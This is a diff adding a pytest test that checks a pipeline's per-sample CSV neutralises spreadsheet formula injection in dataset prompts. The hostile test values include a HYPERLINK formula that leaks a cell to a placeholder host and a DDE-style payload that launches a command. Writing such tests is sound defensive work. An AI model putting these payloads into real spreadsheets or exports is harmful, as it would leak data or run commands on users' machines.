@@ -117,3 +117,26 @@ def test_clip_truncates_long_prompts_keeping_eos(extracted):
 def test_missing_generations_are_named(extracted):
     with pytest.raises(StageError, match=r"000000.png: not found .*run `dvc repro generate-baseline`"):
         extracted.run("metrics")
+
+
+def test_a_formula_in_a_prompt_stays_text_in_the_csv(extracted):
+    """A dataset description is anyone's text: per_sample.csv must not hand a spreadsheet a formula."""
+    import csv
+
+    from stages.common.figures import read_scores
+    from stages.common.io import write_json
+
+    p = extracted
+    configs = dataset.load_eval_configs(p.path("eval_data"))
+    hostile = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "'quoted"]
+    for config, prompt in zip(configs, hostile):
+        config["prompt"] = prompt
+    write_json(p.path("eval_data") / dataset.EVAL_CONFIGS, configs)
+    fill_generated(p, lambda i: dataset.edge_path(p.path("edges"), i))
+    p.run("metrics")
+    with p.path("per_sample").open(newline="", encoding="utf-8") as f:
+        cells = [row["prompt"] for row in csv.DictReader(f)]
+    assert cells[:3] == ["'" + text for text in hostile]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert read_scores(str(p.path("per_sample")))["prompt"].tolist() == [c["prompt"] for c in configs], \
+        "plots and the report read back the prompts exactly"
